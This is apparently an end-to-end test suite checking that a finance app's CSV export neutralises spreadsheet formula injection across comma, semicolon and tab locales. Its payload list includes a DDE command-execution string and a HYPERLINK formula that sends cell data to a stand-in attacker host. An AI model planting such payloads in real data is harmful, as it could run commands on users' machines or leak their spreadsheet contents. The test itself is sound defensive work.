/**
 * CSV injection in every spreadsheet locale: descriptions and category names an attacker wrote (through the bot or
 * the API) carry formulas at the start and after every separator a spreadsheet might split cells on. The exported
 * file is read back the way a spreadsheet would — splitting on `,` (RFC 4180, English Excel, LibreOffice), on `;`
 * (Excel in Russian or Uzbek) and on tabs — and no cell may start with a formula character, while the amounts stay
 * exact plain numbers.
 */
import { accessTokenFor } from '../helpers/auth';
import { parseCsv } from '../helpers/csv';
import { startTestApp, TestApp } from '../helpers/test-app';

/** What spreadsheets run as a formula when a cell starts with it (after any spaces or quotes). */
const FORMULA_START = /^[\s\u00a0"]*[=+\-@\t\r]/;

const PAYLOADS = [
  '=1+2',
  '+998901234567',
  '-5+5',
  '@SUM(A1:A9)',
  '\t=cmd',
  '\r=cmd',
  `=cmd|' /C calc'!A0`,
  'обед;=HYPERLINK("http://evil.example/?d="&A1;"нажми")',
  'обед; =1+1',
  'обед;"=1+1"',
  'taksi;+998901234567',
  'taksi;-2+3;@A1',
  ';=1',
  ',=1',
  'хлеб,=1+1',
  'хлеб, -2+3',
  'хлеб,"=1",@x',
  'двe строки\n=1+1',
  'две строки\r\n-1+1',
  'табуляция\t=1+1',
  'скидка -10%; итого, +5',
];

describe('security: CSV injection in every spreadsheet locale (e2e)', () => {
  let t: TestApp;
  let mallory: { token: string; userId: string };
  const amounts: string[] = [];
  let categoryKey = '';

  beforeAll(async () => {
    t = await startTestApp({ TELEGRAM_BOT_TOKEN: undefined, BOT_MODE: 'none' });
    mallory = await accessTokenFor(t, 6601);
    const [category] = await t.db.query(
      `INSERT INTO categories (user_id, type, name) VALUES ($1, 'expense', $2) RETURNING id`,
      [mallory.userId, 'еда;=1+1,-2'],
    );
    categoryKey = `custom:${category.id}`;
    for (const [i, description] of PAYLOADS.entries()) {
      const amount = `${1000 + i}.${String(i).padStart(2, '0')}`;
      amounts.push(amount);
      await t.db.query(
        `INSERT INTO transactions (user_id, type, amount, currency, category, occurred_at, description, source)
         VALUES ($1, 'expense', $2, 'UZS', $3, timestamptz '2026-10-01T10:00:00Z' + $4 * interval '1 minute', $5, 'text')`,
        [mallory.userId, amount, i % 2 ? categoryKey : '=groceries', i, description],
      );
    }
  });
  afterAll(() => t?.close());

  const exported = async (): Promise<string> => {
    const res = await t.http
      .get('/api/transactions/export/')
      .set('Authorization', `Bearer ${mallory.token}`)
      .buffer(true)
      .parse((r, done) => {
        const chunks: Buffer[] = [];
        r.on('data', (c: Buffer) => chunks.push(c));
        r.on('end', () => done(null, Buffer.concat(chunks)));
      })
      .expect(200);
    return (res.body as Buffer).toString('utf8').replace(/^\uFEFF/, '');
  };

  it.each([
    [',', 'comma (RFC 4180)'],
    [';', 'semicolon (Excel in ru / uz)'],
    ['\t', 'tab'],
  ])('split on %j — %s: no cell starts with a formula character', async (delimiter) => {
    const rows = parseCsv(await exported(), delimiter);
    expect(rows.length).toBeGreaterThanOrEqual(PAYLOADS.length + 1);
    const dangerous = rows.flat().filter((cell) => FORMULA_START.test(cell));
    expect(dangerous).toEqual([]);
  });

  it('read as the comma CSV it is: every payload comes back whole behind its apostrophes, amounts exact and numeric', async () => {
    const rows = parseCsv(await exported());
    expect(rows[0]).toEqual([
      'date',
      'type',
      'amount',
      'currency',
      'category',
      'category_name',
      'description',
      'source',
    ]);
    const body = rows.slice(1);
    expect(body).toHaveLength(PAYLOADS.length);
    // The amount column holds the stored amounts exactly, as plain decimals a spreadsheet sums (no apostrophe).
    expect(body.map((r) => r[2])).toEqual(amounts);
    for (const r of body) expect(r[2]).toMatch(/^\d+\.\d{2}$/);
    // Taking the apostrophes out gives back exactly what was stored: nothing else was changed or lost.
    const restore = (cell: string) => cell.replace(/(^|[,;\t\r\n])'/g, '$1');
    expect(body.map((r) => restore(r[6]))).toEqual(PAYLOADS);
    expect(body.map((r) => restore(r[4]))).toEqual(
      PAYLOADS.map((_, i) => (i % 2 ? categoryKey : '=groceries')),
    );
    expect(body.filter((_, i) => i % 2).map((r) => restore(r[5]))).toEqual(
      Array(Math.floor(PAYLOADS.length / 2)).fill('еда;=1+1,-2'),
    );
  });
});
